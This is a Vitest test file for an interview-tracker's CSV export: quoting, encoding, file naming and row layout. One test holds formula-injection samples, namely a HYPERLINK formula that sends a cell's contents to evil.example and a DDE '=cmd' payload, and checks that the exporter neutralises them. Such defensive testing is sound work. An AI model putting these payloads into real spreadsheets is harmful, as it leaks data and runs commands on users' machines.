import "../setup/i18n";
import Papa from "papaparse";
import { afterEach, describe, expect, it } from "vitest";
import type { Interview } from "../../src/db/schema";
import { csvFileName, interviewRows, toCsv } from "../../src/options/export-csv";
import { missingMessages } from "../setup/i18n";

afterEach(() => {
  expect([...missingMessages]).toEqual([]);
});

/** Reads CSV text back as a spreadsheet program would: the byte-order mark dropped, rows of cells. */
function readBack(csv: string): string[][] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe("toCsv", () => {
  it("gives back every cell as written: commas, quotes, line breaks, accents", () => {
    const rows = [
      ["Company", "Notes"],
      ["Café Ébène, Lyon", 'Bring the "portfolio" next time'],
      ["Zürich Ltd", "Line one\nline two\r\nline three"],
      ["  spaced  ", "naïve résumé — 東京 🎉"],
      ["", "a = b, c + d"],
    ];
    expect(readBack(toCsv(rows))).toEqual(rows);
  });

  it("quotes only where needed, doubling quotes", () => {
    expect(toCsv([["plain", "a,b", 'say "hi"', "two\nlines"]])).toBe(
      '\uFEFFplain,"a,b","say ""hi""","two\nlines"\r\n',
    );
  });

  it("starts with a byte-order mark and ends lines with CRLF", () => {
    expect(
      toCsv([
        ["a", "b"],
        ["Zürich, CH", "é"],
      ]),
    ).toBe('\uFEFFa,b\r\n"Zürich, CH",é\r\n');
  });

  it("keeps a spreadsheet from running a cell as a formula, on one line or several", () => {
    const rows = [
      [
        '=HYPERLINK("https://evil.example/?"&A2,"Open")',
        "+1 555 0100",
        "- rambled\n- no questions",
        "@SUM(A1:A2)",
        '=cmd|"/c calc"!A1\nsecond line',
        "Lumen = good",
      ],
    ];
    expect(readBack(toCsv(rows))).toEqual([
      [
        `'=HYPERLINK("https://evil.example/?"&A2,"Open")`,
        "'+1 555 0100",
        "'- rambled\n- no questions",
        "'@SUM(A1:A2)",
        `'=cmd|"/c calc"!A1\nsecond line`,
        "Lumen = good",
      ],
    ]);
  });

  it("names the file by the local day", () => {
    expect(csvFileName(new Date(2026, 2, 4, 12))).toBe("debrief-interviews-2026-03-04.csv");
  });
});

describe("interviewRows", () => {
  it("writes one row per interview with its reflection and feedback", () => {
    const interview: Interview = {
      id: 1,
      company: "Café Nord",
      role: "Barista",
      round: "Second",
      date: "2026-03-04",
      time: "14:30",
      interviewers: [
        { name: "Ana", email: "ana@nord.example", title: "" },
        { name: "Bo", email: "", title: "" },
      ],
      postingUrl: "https://nord.example/jobs",
      notes: "Line one\nline two",
      status: "rejected",
      threads: [],
      createdAt: "",
      updatedAt: "",
    };
    const [header, row] = interviewRows([
      {
        interview,
        reflection: {
          interviewId: 1,
          answers: { direct: { answer: "partly", note: "rambled" } },
          note: "tired",
          createdAt: "",
          updatedAt: "",
        },
        feedback: [
          {
            interviewId: 1,
            received: true,
            text: "More latte art.",
            themes: ["technical_depth", "communication"],
            receivedAt: "",
            createdAt: "",
          },
        ],
      },
    ]);
    expect(header).toEqual([
      "Company",
      "Role",
      "Round",
      "Date",
      "Time",
      "Status",
      "Interviewers",
      "Interviewer emails",
      "Posting",
      "Notes",
      "Did I answer the questions directly?",
      "Did I show my skills while staying humble?",
      "Did the conversation flow naturally?",
      "Was I prepared?",
      "Reflection note",
      "Feedback received",
      "Feedback",
      "Feedback themes",
    ]);
    expect(row).toEqual([
      "Café Nord",
      "Barista",
      "Second",
      "2026-03-04",
      "14:30",
      "Not selected",
      "Ana; Bo",
      "ana@nord.example",
      "https://nord.example/jobs",
      "Line one\nline two",
      "Partly: rambled",
      "",
      "",
      "",
      "tired",
      "Yes",
      "More latte art.",
      "Technical depth; Communication",
    ]);
  });
});
